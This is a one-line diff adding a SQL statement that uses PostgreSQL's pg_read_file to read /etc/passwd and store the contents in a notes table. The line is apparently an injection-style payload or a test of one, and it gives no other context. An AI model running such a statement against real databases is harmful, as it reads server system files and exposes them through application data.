@@ -1,0 +1,1 @@
+INSERT INTO notes (body) VALUES (pg_read_file('/etc/passwd'))
